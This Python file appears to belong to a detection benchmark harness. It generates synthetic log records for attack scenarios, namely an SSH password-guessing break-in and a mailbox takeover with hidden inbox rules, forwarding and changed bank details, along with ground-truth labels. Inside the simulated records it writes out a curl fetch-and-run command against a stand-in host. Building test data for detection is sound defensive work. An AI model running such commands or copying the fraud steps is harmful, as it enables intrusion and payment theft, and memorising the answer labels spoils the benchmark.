"""Scenarios that can be added to the week: the demonstration's attacks under the sheet's numbers, and two more."""

from collections.abc import Iterator
from datetime import timedelta
from typing import Final

from benchmarks.benign.stage import DayStage, Play
from benchmarks.benign.truth import Label
from correlator.harness.demo import attacks
from correlator.harness.demo.cast import TOWNS
from correlator.harness.demo.cloud import Cloud
from correlator.harness.demo.network import Flow, Network
from correlator.harness.demo.stage import Record
from correlator.harness.demo.unix import Unix

_GUESSER: Final = "198.51.100.81"
_THIEF: Final = "198.51.100.24"


def play_guessing(stage: DayStage) -> Iterator[Record]:
    """Yield S03: an hour of guesses on a web server, then the right one, a command, and sudo refused."""
    unix, network = Unix(stage), Network(stage)
    for when in stage.burst("21:00", 240, 2000):
        user = stage.rng.choice(("admin", "test", "oracle", "mediatheque"))
        yield unix.ssh_failed(when, "brp-web02", user, _GUESSER, known=user == "mediatheque")
    entered = stage.at("21:00") + timedelta(seconds=2000 * stage.pace + 40)
    text = f"Accepted password for mediatheque from {_GUESSER} port {stage.port()} ssh2"
    yield unix.syslog(entered, "brp-web02", "sshd", text)
    fetched = ["sh", "-c", "curl -so /tmp/.x http://198.51.100.90/x && /tmp/.x"]
    when = entered + timedelta(seconds=70)
    yield from unix.executed(when, "brp-web02", fetched, exe="/usr/bin/dash", euid=1004, parent=990)
    refused = "mediatheque : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash"
    yield unix.syslog(entered + timedelta(minutes=13), "brp-web02", "sudo", refused)
    yield network.passed(
        entered + timedelta(minutes=20), TOWNS[0], Flow("10.11.20.12", "198.51.100.90", 4444, 91_000, 4_000_000), "serveurs"
    )


def play_mailbox(stage: DayStage) -> Iterator[Record]:
    """Yield S06: an accountant's mailbox is taken, mail hidden and forwarded, bank details changed, a payment validated."""
    cloud, victim = Cloud(stage), stage.cast.of_town("MTF")[0]
    begin = stage.at("09:10")
    yield cloud.sign_in(begin, victim.upn, _THIEF, 0, "Browser", country="NL")
    hiding = [
        {"Name": "Name", "Value": ".."},
        {"Name": "SubjectOrBodyContainsWords", "Value": "RIB;IBAN;facture;virement"},
        {"Name": "MoveToFolder", "Value": "Flux RSS"},
        {"Name": "MarkAsRead", "Value": "True"},
    ]
    yield cloud.audit(
        begin + timedelta(minutes=9), victim.upn, _THIEF, "New-InboxRule", "Exchange", Parameters=hiding, RecordType=1
    )
    forward = [{"Name": "ForwardingSmtpAddress", "Value": "smtp:compta.mtf@example.net"}]
    yield cloud.audit(
        begin + timedelta(minutes=12), victim.upn, _THIEF, "Set-Mailbox", "Exchange", Parameters=forward, RecordType=1
    )
    changed = {"object_id": "T-4411", "before": {"iban_country": "FR"}, "after": {"iban": "***0077", "iban_country": "LT"}}
    yield cloud.consulted(begin + timedelta(hours=3), victim, "finances", "update", "rib", **changed)
    paid = {"object_id": "M-88120", "tiers": "T-4411", "amount": 184_320.00}
    yield cloud.consulted(begin + timedelta(hours=5), victim, "finances", "validate", "mandat", **paid)


#: Name → (day of the week, Monday 0; what is played; what the truth says of it).
SCENARIOS: Final[dict[str, tuple[int, Play, Label]]] = {
    "S02": (3, attacks.play_spray, Label("scenario", "S02", "password spray over three communes, then a kiosk's mailbox",
            ("00101", "00102", "00103"), "high", ("198.51.100.17", "198.51.100.18", "198.51.100.37", "198.51.100.38",
            "guichet.cor02@cor.example.org"))),
    "S03": (1, play_guessing, Label("scenario", "S03", "passwords of a web server guessed, then let in", ("00101",), "high",
            (_GUESSER, "brp-web02"))),
    "S05": (2, attacks.play_webshell, Label("scenario", "S05", "webshell on a town site", ("00106",), "high",
            ("198.51.100.84", "198.51.100.141", "que-web01"))),
    "S06": (3, play_mailbox, Label("scenario", "S06", "mailbox taken, bank details changed, payment validated", ("00104",),
            "high", (_THIEF,))),
    "S12": (5, attacks.play_ransomware, Label("scenario", "S12", "backups destroyed, files of a share encrypted", ("00102",),
            "critical", ("sau-fs01.ad.sim9.example", "t0.gmoreau", "t0.hchauvet", "10.12.40.77", "10.12.40.93"))),
}  # fmt: skip
